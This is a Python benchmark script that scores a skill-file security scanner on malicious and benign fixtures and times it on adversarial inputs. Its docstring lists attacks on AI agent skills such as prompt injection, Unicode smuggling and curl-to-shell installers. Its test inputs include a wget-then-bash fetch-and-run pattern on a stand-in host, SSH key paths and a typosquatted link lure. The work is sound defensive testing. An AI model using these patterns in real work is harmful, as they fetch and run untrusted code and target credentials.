#!/usr/bin/env python
"""The skill scanner on its corpus: detection and false-quarantine rates, per part.

``tests/data/skill_scan/`` holds SKILL.md files written for this benchmark, modelled on
published attack write-ups (prompt injection, ASCII smuggling with Unicode tags,
variation-selector smuggling, Trojan Source bidi, homoglyphs, curl|sh installers,
base64-to-shell droppers, credential stealers posting to webhooks, persistence through
authorized_keys and cron) and benign skills, several of which *talk about* those
patterns (a security checklist, a prompt-injection detector, a red-team plan, install
skills that download with curl and verify a checksum). A fixture is a ``*.md`` file
or a skill folder (``SKILL.md`` + ``scripts/``, ``references/``... shaped like published
skills, issue 39), scanned as ``crystalmesh skill scan`` does. Two parts: ``tune`` (the
rules were developed against it) and ``holdout`` (written first, before the scanner, and
not looked at while tuning). For each part:

- detection: malicious fixtures quarantined *by content* (a refusal is not a detection);
- flagged: malicious fixtures whose verdict is at least ``warn``;
- refused: fixtures the scanner would not read (too large, not text...), counted apart;
- false quarantine: benign quarantined; false warn: benign warned; benign refused;
- scan time per file (p50, max, ms) and, once, the time of a set of adversarial inputs
  (the size cap, a long line of one repeated token, many comment openers...).

    .venv/bin/python scripts/bench_scan.py [--parts tune holdout] [--smoke]

``--smoke``: the first 3 files of each folder of the tune part, one adversarial input.
The last line is one JSON object.
"""

from __future__ import annotations

import argparse
import time
from pathlib import Path

from _bench import add_smoke_flag, print_result, quantiles, smoke

from node.market import scan_folder, scan_text

CORPUS = Path(__file__).resolve().parents[1] / "tests" / "data" / "skill_scan"
SCAN_LIMIT = 128 * 1024
ADVERSARIAL = {
    "repeated_fetch": "curl " * (SCAN_LIMIT // 5),
    "pipe_far_away": ("curl x" + " " * 290 + "|") * (SCAN_LIMIT // 300),
    "comment_openers": "<!--" * (SCAN_LIMIT // 4),
    "zero_width_flood": "\u200b" * SCAN_LIMIT,
    "tag_flood": chr(0xE0041) * (SCAN_LIMIT // 2),
    "quote_flood": '"' * SCAN_LIMIT,
    "mixed_script_words": "аbc " * (SCAN_LIMIT // 4),
    # The whole-skill rules and the decoder (node/market/scan/flows.py, decode.py).
    "concatenated_literals": ('"a" + ' * (SCAN_LIMIT // 6))[:SCAN_LIMIT],
    "character_codes": "chr(99)+" * (SCAN_LIMIT // 8),
    "lure_lines": ("[x](https://githuh.com/a.zip) password: abc run download\n" * (SCAN_LIMIT // 56))[:SCAN_LIMIT],
    "fetch_then_run": "".join(f"wget https://x.example/a{i}.sh\nbash a{i}.sh\n" for i in range(4000))[:SCAN_LIMIT],
    "credential_paths": "~/.ssh/id_rsa\n" * (SCAN_LIMIT // 14),
}


def run_part(part: str, limit: int | None) -> dict[str, object]:
    result: dict[str, object] = {}
    times_ms: list[float] = []
    for label in ("malicious", "benign"):
        folder = CORPUS / part / label
        files = sorted([*folder.glob("*.md"), *(path for path in folder.iterdir() if path.is_dir())])[:limit]
        verdicts = {}
        for path in files:
            started = time.perf_counter()
            if path.is_dir():
                verdicts[path.name] = str(scan_folder(path).verdict)
            else:
                verdicts[path.name] = str(scan_text(path.read_text(encoding="utf-8")).verdict)
            times_ms.append((time.perf_counter() - started) * 1000)
        quarantined = [name for name, verdict in verdicts.items() if verdict == "quarantine"]
        warned = [name for name, verdict in verdicts.items() if verdict == "warn"]
        ok = [name for name, verdict in verdicts.items() if verdict == "ok"]
        refused = [name for name, verdict in verdicts.items() if verdict == "refused"]
        if label == "malicious":
            result |= {"malicious": len(files),
                       "detection_rate": round(len(quarantined) / max(1, len(files)), 3),
                       "flagged_rate": round((len(quarantined) + len(warned)) / max(1, len(files)), 3),
                       "malicious_refused": sorted(refused), "missed": sorted(warned + ok)}
        else:
            result |= {"benign": len(files),
                       "false_quarantine_rate": round(len(quarantined) / max(1, len(files)), 3),
                       "false_warn_rate": round(len(warned) / max(1, len(files)), 3),
                       "benign_refused_rate": round(len(refused) / max(1, len(files)), 3),
                       "false_quarantined": sorted(quarantined), "warned_benign": sorted(warned),
                       "benign_refused": sorted(refused)}
    result["scan_ms"] = quantiles(times_ms, (50,), digits=2)
    return result


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--parts", nargs="+", default=["tune", "holdout"])
    parser.add_argument("--limit", type=int, default=None, help="files per folder (default: all)")
    parser.add_argument("--adversarial", type=int, default=len(ADVERSARIAL))
    add_smoke_flag(parser)
    arguments = smoke(parser.parse_args(), parts=["tune"], limit=3, adversarial=1)
    result: dict[str, object] = {part: run_part(part, arguments.limit) for part in arguments.parts}
    adversarial = {}
    for name, text in list(ADVERSARIAL.items())[:arguments.adversarial]:
        started = time.perf_counter()
        verdict = scan_text(text).verdict
        adversarial[name] = {"verdict": str(verdict), "ms": round((time.perf_counter() - started) * 1000)}
    result["adversarial"] = adversarial
    for part in arguments.parts:
        summary = result[part]
        assert isinstance(summary, dict)
        print(f"{part}: detection {summary['detection_rate']:.0%} of {summary['malicious']} malicious, "
              f"false quarantine {summary['false_quarantine_rate']:.0%}, refused "
              f"{summary['benign_refused_rate']:.0%} of {summary['benign']} benign")
    print_result(result)


if __name__ == "__main__":
    main()
